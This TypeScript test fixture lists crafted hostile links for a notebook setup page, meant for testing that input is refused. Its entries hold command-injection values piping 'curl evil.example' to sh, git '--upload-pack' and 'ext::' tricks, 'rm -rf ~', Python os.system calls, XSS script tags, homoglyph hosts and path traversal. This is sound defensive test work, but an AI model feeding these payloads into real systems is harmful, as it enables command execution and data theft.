/**
 * Hostile links for the setup and prep pages, shared by the unit tests and the Playwright
 * spec: each names the parameters that must be refused (with a visible notice) and a
 * payload that must never reach a command, the clipboard, a link or the DOM as markup.
 */
import type { LinkKey } from './prep-link';

/** One crafted link. */
export interface CraftedLink {
	name: string;
	/** The query string, without `?`, exactly as it goes on the address. */
	query: string;
	/** Parameters that must be refused with a notice. */
	refused: LinkKey[];
	/** Text that must appear in no command, clipboard text or link. */
	payload: string;
}

const q = (params: Record<string, string>) => new URLSearchParams(params).toString();

const repo = (name: string, value: string, payload: string): CraftedLink => ({
	name: `repo: ${name}`,
	query: q({ platform: 'colab', repo: value }),
	refused: ['repo'],
	payload,
});
const param = (key: LinkKey, name: string, value: string, payload: string): CraftedLink => ({
	name: `${key}: ${name}`,
	query: q({ platform: key === 'folder' ? 'colab' : 'cocalc', [key]: value }),
	refused: [key],
	payload,
});
const raw = (name: string, query: string, refused: LinkKey[], payload: string): CraftedLink => ({ name, query, refused, payload });

const BIG = 10 * 1024;

/** The corpus: at least 50 links. */
export const CRAFTED_LINKS: readonly CraftedLink[] = [
	repo('semicolon and pipe', 'https://github.com/a/b;curl evil.example|sh', 'curl'),
	repo('and-and', 'https://github.com/a/b && curl evil.example', 'curl'),
	repo('pipe', 'https://github.com/a/b|sh', '|sh'),
	repo('command substitution', 'https://github.com/a/b$(curl evil.example)', 'curl'),
	repo('backticks', 'https://github.com/a/b`curl evil.example`', 'curl'),
	repo('newline', 'https://github.com/a/b\ncurl evil.example', 'curl'),
	repo('carriage return', 'https://github.com/a/b\rcurl evil.example', 'curl'),
	repo('upload-pack option', '--upload-pack=touch /tmp/pwned', 'upload-pack'),
	repo('upload-pack after URL', 'https://github.com/a/b --upload-pack=touch /tmp/pwned', 'upload-pack'),
	repo('upload-pack as owner', 'https://github.com/--upload-pack=x/b', 'upload-pack'),
	repo('ext transport', 'ext::sh -c touch% /tmp/pwned', 'ext::'),
	repo('file URL', 'file:///etc/passwd', '/etc/passwd'),
	repo('javascript URL', 'javascript:alert(1)', 'javascript:'),
	repo('data URL', 'data:text/html,<script>alert(1)</script>', 'data:'),
	repo('zero-width space in host', 'https://git\u200Bhub.com/a/b', '\u200B'),
	repo('zero-width joiner before payload', 'https://github.com/a/b\u200D;curl evil.example', 'curl'),
	repo('bidi override', 'https://github.com/a/b\u202E;hs.live', '\u202E'),
	repo('bidi isolate', 'https://github.com/a/b\u2066;curl evil.example\u2069', 'curl'),
	repo('Cyrillic i homoglyph host', 'https://g\u0456thub.com/a/b', 'g\u0456thub'),
	repo('Greek omicron homoglyph host', 'https://gitlab.c\u03BFm/a/b', 'c\u03BFm'),
	repo('punycode host', 'https://xn--gthub-2ve.com/a/b', 'xn--'),
	repo('host suffix', 'https://github.com.evil.example/a/b', 'evil.example'),
	repo('userinfo host', 'https://github.com@evil.example/a/b', 'evil.example'),
	repo('credentials', 'https://user:secret@github.com/a/b', 'secret'),
	repo('other host with path', 'https://evil.example/github.com/a/b', 'evil.example'),
	repo('plain http', 'http://github.com/a/b', 'http://'),
	repo('port', 'https://github.com:2222/a/b', '2222'),
	repo('query', 'https://github.com/a/b?x=evil', 'evil'),
	repo('fragment', 'https://github.com/a/b#evil', 'evil'),
	repo('upper-case host', 'https://GITHUB.COM/a/b', 'GITHUB'),
	repo('ssh form', 'git@github.com:a/b.git', 'git@'),
	repo('name starting with dash', 'https://github.com/a/-b', 'a/-b'),
	repo('dot-dot name', 'https://github.com/a/..', 'a/..'),
	repo('path traversal', 'https://github.com/a/b/../../evil', 'evil'),
	repo('single quote', "https://github.com/a/b'", "b'"),
	repo('double quote', 'https://github.com/a/b"', 'b"'),
	repo('IPython brace expansion', 'https://github.com/a/{evil}', '{evil}'),
	repo('dollar variable', 'https://github.com/a/$EVIL', '$EVIL'),
	repo('space', 'https://github.com/a/b evil', 'evil'),
	repo('10 KB value', `https://github.com/a/${'b'.repeat(BIG)}`, 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'),
	raw('repo: percent-encoded separator', 'platform=colab&repo=https%3A%2F%2Fgithub.com%2Fa%2Fb%3Bcurl%20evil.example', ['repo'], 'curl'),
	raw('repo: double-encoded separator', 'platform=colab&repo=https%253A%252F%252Fgithub.com%252Fa%252Fb%253Bcurl', ['repo'], 'curl'),
	raw('repo: encoded newline', 'platform=colab&repo=https://github.com/a/b%0Acurl%20evil.example', ['repo'], 'curl'),
	raw('repo: encoded NUL', 'platform=colab&repo=https://github.com/a/b%00curl', ['repo'], 'curl'),
	raw('repo: given twice', 'platform=colab&repo=https://github.com/a/evil1&repo=https://github.com/c/evil2', ['repo'], 'evil'),
	param('branch', 'semicolon', 'master;curl evil.example', 'curl'),
	param('branch', 'upload-pack option', '--upload-pack=touch /tmp/pwned', 'upload-pack'),
	param('branch', 'command substitution', 'main$(id)', '$(id)'),
	param('branch', 'backticks', 'main`id`', '`id`'),
	param('branch', 'newline', 'main\nrm -rf ~', 'rm -rf'),
	param('branch', 'dot-dot', '../../etc', '../'),
	param('branch', 'double slash', 'evil//b', 'evil'),
	param('branch', 'lock suffix', 'evil.lock', 'evil'),
	param('branch', 'Python expansion', "{__import__('os').system('id')}", '__import__'),
	param('branch', '10 KB value', 'a'.repeat(BIG), 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'),
	param('folder', 'space (Drive mount rule)', 'My Drive', 'My Drive'),
	param('folder', 'quote break-out', 'x"; import os; os.system("id")', 'os.system'),
	param('folder', 'traversal', '../../etc', '../'),
	param('folder', 'dollar variable', '$HOME', '$HOME'),
	param('folder', 'brace expansion', "{os.system('id')}", 'os.system'),
	param('folder', 'bidi override', 'evil\u202Etxt', '\u202E'),
	param('folder', '10 KB value', 'f'.repeat(BIG), 'ffffffffffffffffffffffffffffff'),
	param('notebook', 'separator', 'notebooks/x.ipynb;curl evil.example', 'curl'),
	param('notebook', 'traversal', '../evil.ipynb', 'evil'),
	param('notebook', 'javascript URL', 'javascript:alert(1)//x.ipynb', 'javascript:'),
	raw('platform: separator', 'platform=colab;curl%20evil.example', ['platform'], 'curl'),
	raw('platform: markup', 'platform=%3Cscript%3Ealert(1)%3C/script%3E', ['platform'], '<script>'),
	raw('title: script tag (shown as text)', q({ title: '<script>alert(1)</script>' }), [], '<script>'),
	raw('title: image with handler (shown as text)', q({ title: '<img src=x onerror=alert(1)>' }), [], '<img'),
	raw('title: 10 KB value', q({ title: 'T'.repeat(BIG) }), ['title'], 'TTTTTTTTTTTTTTTTTTTTTTTTTTTTTT'),
	raw('title: bidi override stripped', q({ title: 'Deep \u202Elearning' }), [], '\u202E'),
	raw('date: impossible day', q({ date: '2026-02-30' }), ['date'], '2026-02-30'),
	raw('date: markup', q({ date: '2026-12-03<script>alert(1)</script>' }), ['date'], '<script>'),
	raw('date: javascript URL', q({ date: 'javascript:alert(1)' }), ['date'], 'javascript:'),
	raw('time: markup', q({ date: '2026-12-03', time: '09:00<script>alert(1)</script>' }), ['time'], '<script>'),
	raw('tz: traversal', q({ date: '2026-12-03', time: '09:00', tz: '../../etc/passwd' }), ['tz'], 'passwd'),
	raw('tz: unknown zone', q({ date: '2026-12-03', time: '09:00', tz: 'Mars/Olympus_Mons' }), ['tz'], 'Olympus'),
];
